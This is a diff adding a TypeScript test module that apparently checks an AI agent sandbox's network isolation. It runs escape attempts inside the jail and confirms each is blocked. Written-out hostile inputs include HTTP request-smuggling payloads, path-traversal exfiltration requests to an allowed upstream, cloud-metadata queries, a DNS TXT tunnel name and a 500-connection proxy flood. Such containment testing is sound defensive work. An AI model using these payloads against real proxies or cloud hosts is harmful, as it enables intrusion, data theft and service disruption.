@@ -1,0 +1,348 @@
+import type { Attack, AttackFinding } from "./attack.ts";
+import type { Answers, AttackLab } from "./lab.ts";
+
+/** Functions that the scripts of this file share, as source. */
+const prelude = `
+  import dgram from "node:dgram";
+  import dns from "node:dns/promises";
+  import http from "node:http";
+  import net from "node:net";
+  import os from "node:os";
+  const tcp = (host, port) => new Promise((done) => {
+    const socket = net.connect({ host, port, timeout: 3000 });
+    socket.once("connect", () => { socket.destroy(); done("connected"); });
+    socket.once("timeout", () => { socket.destroy(); done("timeout"); });
+    socket.once("error", (error) => done(error.code));
+  });
+  const udp = (type, port, host) => new Promise((done) => {
+    const socket = dgram.createSocket(type);
+    socket.send("x", port, host, (error) => { socket.close(); done(error ? error.code : "sent"); });
+  });
+  const ask = (options, body = "") => new Promise((done) => {
+    const request = http.request({ socketPath: "/run/holdfast/egress.sock", method: "POST", ...options }, (response) => {
+      let text = ""; response.on("data", (d) => { text += d; });
+      response.on("end", () => done(response.statusCode + " " + (/"code":\\s*"([^"]+)"/.exec(text)?.[1] ?? "")));
+    });
+    request.on("error", (error) => done(error.code)); request.end(body);
+  });
+  const say = (answers) => { console.log(JSON.stringify(answers)); process.exit(0); };`;
+
+const metadata = ["169.254.169.254", "fd00:ec2::254", "168.63.129.16", "100.100.100.200"];
+const outsideAddresses = ["1.1.1.1", "2606:4700:4700::1111", "fe80::1%lo", "224.0.0.251", "ff02::1"];
+
+const dial = (hosts: readonly string[], port: number) => `${prelude}
+  const answers = {};
+  for (const host of ${JSON.stringify(hosts)}) answers[host] = await tcp(host, ${port});
+  say(answers);`;
+
+/** Nothing was reached, and the program works where something can be. */
+async function unreachable(lab: AttackLab, hosts: readonly string[], port = 443): Promise<AttackFinding> {
+  const answers = await lab.inside(dial(hosts, port));
+  const hostPort = await lab.listen(0);
+  const control = await lab.outside(dial(["127.0.0.1"], hostPort));
+  return {
+    stopped: Object.values(answers).every((each) => each !== "connected" && each !== "timeout"),
+    observed: summary(answers),
+    control: { worked: control["127.0.0.1"] === "connected", observed: "a server of the host is reached" },
+  };
+}
+
+/** The different ways in which a row ended, each once. */
+export function summary(answers: Answers): string {
+  return [...new Set(Object.values(answers))].join(", ");
+}
+
+export const networkAttacks: readonly Attack[] = [
+  {
+    id: "network.tcp",
+    group: "network",
+    attempt: "TCP to the Internet, IPv6, link-local, multicast",
+    must: "no route",
+    layer: "network namespace without interfaces",
+    needs: ["network.none"],
+    run: (lab) => unreachable(lab, outsideAddresses),
+  },
+  {
+    id: "network.udp",
+    group: "network",
+    attempt: "UDP to the Internet and to multicast",
+    must: "no route",
+    layer: "network namespace without interfaces",
+    needs: ["network.none"],
+    run: async (lab) => {
+      const script = (inside: boolean) => `${prelude}
+        say(${inside ? `{ v4: await udp("udp4", 53, "8.8.8.8"), v6: await udp("udp6", 53, "2001:4860:4860::8888"), mdns: await udp("udp4", 5353, "224.0.0.251") }` : `{ own: await udp("udp4", 9, "127.0.0.1") }`});`;
+      const answers = await lab.inside(script(true));
+      const control = await lab.outside(script(false));
+      return {
+        stopped: !Object.values(answers).includes("sent"),
+        observed: summary(answers),
+        control: { worked: control["own"] === "sent", observed: "a datagram of the host is sent" },
+      };
+    },
+  },
+  {
+    id: "network.dns",
+    group: "network",
+    attempt: "names through the host's resolver, a TXT tunnel, mDNS",
+    must: "nothing resolves: names resolve only in the proxy",
+    layer: "network namespace, empty resolver",
+    needs: ["network.none"],
+    run: async (lab) => {
+      const script = `${prelude}
+        const name = (promise) => promise.then(() => "resolved", (error) => error.code);
+        const resolver = new dns.Resolver({ timeout: 300, tries: 1 });
+        say({ a: await name(dns.lookup("example.com")), txt: await name(resolver.resolveTxt("c2VjcmV0.example.com")),
+          host: await name(dns.lookup("host.docker.internal")), local: await name(dns.lookup("printer.local")) });`;
+      const answers = await lab.inside(script);
+      const control = await lab.outside(
+        `${prelude} say({ own: await dns.lookup("localhost").then(() => "resolved", (error) => error.code) });`,
+      );
+      return {
+        stopped: !Object.values(answers).includes("resolved"),
+        observed: summary(answers),
+        control: { worked: control["own"] === "resolved", observed: "a name resolves on the host" },
+      };
+    },
+  },
+  {
+    id: "network.metadata",
+    group: "network",
+    attempt: "cloud metadata addresses",
+    must: "no route, and refused by the proxy",
+    layer: "network namespace; egress proxy: pinned upstreams",
+    needs: ["network.none"],
+    run: async (lab) => {
+      const direct = await unreachable(lab, metadata, 80);
+      const proxied = await withEgress(
+        lab,
+        `${prelude} say({
+          absolute: await ask({ method: "GET", path: "http://169.254.169.254/latest/meta-data/" }),
+          host: await ask({ method: "GET", path: "/latest/meta-data/", headers: { host: "169.254.169.254" } }) });`,
+      );
+      return {
+        ...direct,
+        stopped: direct.stopped && Object.values(proxied).every((each) => /^4\d\d /.test(each)),
+        observed: `${direct.observed}; proxy: ${summary(proxied)}`,
+      };
+    },
+  },
+  {
+    id: "network.host",
+    group: "network",
+    attempt: "loopback of the host, host.docker.internal, gateway and private addresses",
+    must: "not reached",
+    layer: "network namespace without interfaces",
+    needs: ["network.none"],
+    run: async (lab) => {
+      const port = await lab.listen(0);
+      const script = dial(["127.0.0.1", "::1", "10.0.0.1", "172.17.0.1", "192.168.0.1"], port);
+      const answers = await lab.inside(script);
+      const control = await lab.outside(dial(["127.0.0.1"], port));
+      return {
+        stopped: !Object.values(answers).includes("connected"),
+        observed: summary(answers),
+        control: {
+          worked: control["127.0.0.1"] === "connected",
+          observed: "the host reaches its own server",
+        },
+      };
+    },
+  },
+  {
+    id: "network.redirect",
+    group: "network",
+    attempt: "an allowed host redirects to a denied one",
+    must: "the redirect is not followed nor handed on",
+    layer: "egress proxy: redirects to another place are refused",
+    run: async (lab) => {
+      const answers = await withEgress(
+        lab,
+        `${prelude} say({ redirect: await ask({ path: "/anthropic/v1/messages/redirect" }, "{}"),
+          plain: await ask({ path: "/anthropic/v1/messages" }, "{}") });`,
+      );
+      return {
+        stopped: /^(4|5)\d\d /.test(answers["redirect"] ?? ""),
+        observed: answers["redirect"] ?? "",
+        control: {
+          worked: answers["plain"]?.startsWith("200") === true,
+          observed: "an answer without one passes",
+        },
+      };
+    },
+  },
+  {
+    id: "network.smuggling",
+    group: "network",
+    attempt: "request smuggling: two lengths, length with chunks, CRLF in a header, folded fields",
+    must: "400, and no second request upstream",
+    layer: "egress proxy: strict framing",
+    run: async (lab) => {
+      const heads = [
+        "POST /anthropic/v1/messages HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /admin HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n",
+        "POST /anthropic/v1/messages HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 2\\r\\nContent-Length: 40\\r\\n\\r\\n{}GET /admin HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n",
+        "POST /anthropic/v1/messages HTTP/1.1\\r\\nHost: x\\r\\nX-A: b\\r\\n folded\\r\\nContent-Length: 2\\r\\n\\r\\n{}",
+        "POST /anthropic/v1/messages\\rX HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n",
+      ];
+      const before = lab.upstream.reached.length;
+      const answers = await withEgress(
+        lab,
+        `${prelude}
+        const raw = (bytes) => new Promise((done) => {
+          const socket = net.connect("/run/holdfast/egress.sock"); let text = "";
+          socket.setTimeout(3000, () => { socket.destroy(); done(text.slice(9, 12) || "timeout"); });
+          socket.on("data", (d) => { text += d; }); socket.on("error", () => {}); socket.once("close", () => done(text.slice(9, 12)));
+          socket.end(Buffer.from(bytes, "latin1")); });
+        const answers = {}; let n = 0;
+        for (const head of [${heads.map((head) => `"${head}"`).join(",\n")}]) answers[n++] = await raw(head);
+        answers.plain = await ask({ path: "/anthropic/v1/messages" }, "{}");
+        say(answers);`,
+      );
+      const { plain, ...bad } = answers;
+      const after = lab.upstream.reached.slice(before);
+      return {
+        stopped:
+          Object.values(bad).every((each) => each === "400") && !after.some((each) => each.includes("admin")),
+        observed: summary(bad),
+        control: { worked: plain?.startsWith("200") === true, observed: "a proper request passes" },
+      };
+    },
+  },
+  {
+    id: "network.ignore_proxy",
+    group: "network",
+    attempt: "ignore the proxy settings and connect directly",
+    must: "no route: it cannot matter",
+    layer: "network namespace without interfaces",
+    needs: ["network.none"],
+    run: async (lab) => {
+      const script = `${prelude}
+        const get = (url) => fetch(url).then(() => "connected", (error) => error.cause?.code ?? error.name);
+        say({ fetch: await get("http://1.1.1.1/"), https: await get("https://[2606:4700:4700::1111]/") });`;
+      const answers = await lab.inside(script, {
+        env: { HTTP_PROXY: "http://127.0.0.1:9", HTTPS_PROXY: "http://127.0.0.1:9", NO_PROXY: "*" },
+      });
+      const control = await lab.outside(
+        `${prelude} say({ own: await fetch("${lab.upstream.url}/").then(() => "connected", () => "failed") });`,
+      );
+      return {
+        stopped: !Object.values(answers).includes("connected"),
+        observed: summary(answers),
+        control: {
+          worked: control["own"] === "connected",
+          observed: "the same call reaches a server on the host",
+        },
+      };
+    },
+  },
+  {
+    id: "network.exfiltration",
+    group: "network",
+    attempt: "send data out through an allowed host: other paths, methods, upstreams",
+    must: "refused: what is not allowed is denied",
+    layer: "egress proxy: method and path rules",
+    run: async (lab) => {
+      const answers = await withEgress(
+        lab,
+        `${prelude} const answers = {};
+        for (const [method, path] of [["POST", "/anthropic/v1/files"], ["PUT", "/anthropic/v1/messages"], ["POST", "/github/gists"],
+          ["POST", "/anthropic/v1/messages/../files"], ["POST", "/anthropic/v1/messages%2f..%2ffiles"], ["POST", "/anthropic/v1/messagesX"]])
+          answers[method + path] = await ask({ method, path }, "loot");
+        answers.plain = await ask({ path: "/anthropic/v1/messages" }, "{}");
+        say(answers);`,
+      );
+      const { plain, ...bad } = answers;
+      return {
+        stopped: Object.values(bad).every((each) => /^4\d\d /.test(each)),
+        observed: summary(bad),
+        control: { worked: plain?.startsWith("200") === true, observed: "the allowed call passes" },
+      };
+    },
+  },
+  {
+    id: "network.listen",
+    group: "network",
+    attempt: "listen on 0.0.0.0 and be reached; bind a low port",
+    must: "only the jail's own network sees it",
+    layer: "network namespace",
+    needs: ["network.none"],
+    run: async (lab) => {
+      const script = `${prelude}
+        const server = net.createServer((socket) => socket.end()).listen(0, "0.0.0.0");
+        await new Promise((ready) => server.once("listening", ready));
+        console.log(server.address().port);
+        process.stdin.resume().once("end", () => process.exit(0));`;
+      const jail = await lab.start({
+        command: "/opt/holdfast/node",
+        args: ["--input-type=module", "-e", script],
+      });
+      const port = await new Promise<number>((resolve) => {
+        jail.stdout.once("data", (line) => resolve(Number(String(line))));
+      });
+      const answers = await lab.outside(dial(["127.0.0.1"], port));
+      await jail.stop({ graceMs: 0 });
+      const hostPort = await lab.listen(0);
+      const control = await lab.outside(dial(["127.0.0.1"], hostPort));
+      return {
+        stopped: answers["127.0.0.1"] === "ECONNREFUSED",
+        observed: `the host sees ${answers["127.0.0.1"]}`,
+        control: {
+          worked: control["127.0.0.1"] === "connected",
+          observed: "a server of the host is reached",
+        },
+      };
+    },
+  },
+  {
+    id: "network.flood",
+    group: "network",
+    attempt: "500 connections, headers that never end and huge headers to the proxy",
+    must: "bounded; another session is not affected",
+    layer: "egress proxy: limits per jail",
+    run: async (lab) => {
+      const answers = await withEgress(
+        lab,
+        `${prelude}
+        const sockets = []; let closed = 0;
+        for (let n = 0; n < 500; n++) await new Promise((next) => {
+          const socket = net.connect("/run/holdfast/egress.sock", () => { socket.write("POST /anthropic/v1/messages HTTP/1.1\\r\\nX: "); next(); });
+          socket.on("error", next); socket.on("close", () => { closed++; }); sockets.push(socket); });
+        const deadline = Date.now() + 5000;
+        while (closed < 400 && Date.now() < deadline) await new Promise((next) => setTimeout(next, 20));
+        const refused = closed;
+        for (const socket of sockets) socket.destroy();
+        let huge = "ECONNREFUSED";
+        for (let n = 0; n < 100 && !/^4/.test(huge); n++) { huge = await ask({ path: "/anthropic/v1/messages", headers: { "x-huge": "x".repeat(100000) } }, "{}"); if (!/^4/.test(huge)) await new Promise((next) => setTimeout(next, 20)); }
+        say({ refused: String(refused), huge });`,
+      );
+      const other = await withEgress(
+        lab,
+        `${prelude} say({ plain: await ask({ path: "/anthropic/v1/messages" }, "{}") });`,
+      );
+      return {
+        stopped: Number(answers["refused"]) >= 400 && /^4\d\d/.test(answers["huge"] ?? ""),
+        observed: `${answers["refused"]} of 500 closed; huge headers: ${answers["huge"]}`,
+        control: { worked: other["plain"]?.startsWith("200") === true, observed: "another jail is served" },
+      };
+    },
+  },
+];
+
+/** Runs a module in a jail that has the lab's model server as its one way out. */
+export async function withEgress(lab: AttackLab, script: string): Promise<Answers> {
+  const spec = lab.spec({});
+  const egress = await lab.gate.openEgress({
+    jailId: spec.id,
+    session: "attack",
+    upstreams: [await lab.gate.vault.upstream("anthropic")],
+  });
+  try {
+    return await lab.inside(script, {
+      id: spec.id,
+      env: { MODEL_KEY: egress.placeholderKey, HOME: "/home/agent" },
+      mounts: [{ source: egress.socketPath, target: "/run/holdfast/egress.sock", mode: "ro" }],
+    });
+  } finally {
+    await egress.close();
+  }
+}
